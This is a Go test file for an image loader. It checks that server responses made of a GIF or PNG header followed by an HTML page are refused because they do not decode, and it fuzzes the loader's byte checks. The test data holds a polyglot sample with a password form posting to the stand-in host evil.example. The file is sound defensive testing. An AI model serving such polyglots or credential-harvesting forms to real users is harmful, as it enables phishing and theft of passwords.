package app

import (
	"bytes"
	"errors"
	"image"
	"image/color"
	"image/gif"
	"image/png"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// encodedImage is a real w x h image in the format, as a server sends it.
func encodedImage(t *testing.T, format string, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	var err error
	switch format {
	case "png":
		err = png.Encode(&b, image.NewGray(image.Rect(0, 0, w, h)))
	case "gif":
		err = gif.Encode(&b, image.NewPaletted(image.Rect(0, 0, w, h), color.Palette{color.Black, color.White}), nil)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// A header is not an image: a GIF header, or a PNG signature and a true
// first chunk, followed by a web page sniff as images and declare a size
// (DecodeConfig reads no further), but they do not decode, so the loader
// refuses them, saying why; whole images of both formats still load.
func TestLoaderRefusesAnImageHeaderFollowedByAWebPage(t *testing.T) {
	page := "<html><body><form action=https://evil.example/>password <input name=p></form></body></html>"
	realPNG, realGIF := encodedImage(t, "png", 40, 30), encodedImage(t, "gif", 40, 30)
	gifHeader := "GIF89a\x28\x00\x1e\x00\x00\x00\x00" // 40x30, no colour table
	ihdrEnd := 8 + 4 + 4 + 13 + 4                     // signature, then the IHDR chunk: length, type, data, CRC
	bodies := map[string]string{
		"/gif-then-html": gifHeader + page,
		"/png-then-html": string(realPNG[:ihdrEnd]) + page,
		"/gif-cut-short": string(realGIF[:len(realGIF)/2]),
		"/real.png":      string(realPNG),
		"/real.gif":      string(realGIF),
	}
	srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "image/gif")
		rw.Write([]byte(bodies[r.URL.Path]))
	}))
	defer srv.Close()
	var urls []string
	for p := range bodies {
		urls = append(urls, srv.URL+p)
	}
	got := loadAll(&HTTPLoader{AllowLoopback: true}, urls...)
	for p, body := range bodies {
		img := got[srv.URL+p]
		if strings.HasPrefix(p, "/real.") {
			if img.Err != nil || !bytes.Equal(img.Data, []byte(body)) {
				t.Errorf("%s: %v, %d bytes; want it loaded", p, img.Err, len(img.Data))
			}
			continue
		}
		if !errors.Is(img.Err, ErrNotAnImage) || img.Data != nil {
			t.Errorf("%s: %v (%d bytes handed on), want it refused as not an image", p, img.Err, len(img.Data))
			continue
		}
		if !strings.Contains(img.Err.Error(), "does not decode") {
			t.Errorf("%s: the reason %q does not say the image does not decode", p, img.Err)
		}
	}
}

// FuzzLoadedImageBytes runs arbitrary bytes through the loader's checks of
// what a server answered: never a panic, and what is accepted decodes.
func FuzzLoadedImageBytes(f *testing.F) {
	var p bytes.Buffer
	png.Encode(&p, image.NewGray(image.Rect(0, 0, 4, 4)))
	for _, seed := range [][]byte{p.Bytes(), p.Bytes()[:33], []byte("GIF89a\x05\x00\x05\x00\x00\x00\x00<html>"), []byte("\xff\xd8\xff<html>"), []byte("<svg/>")} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		ctype, err := sniffImage(data)
		if err != nil || checkDimensions(data) != nil {
			return
		}
		if err := decodesAs(data, ctype); err == nil {
			if _, _, err := image.Decode(bytes.NewReader(data)); err != nil {
				t.Fatalf("accepted as %s, but image.Decode says %v", ctype, err)
			}
		}
	})
}
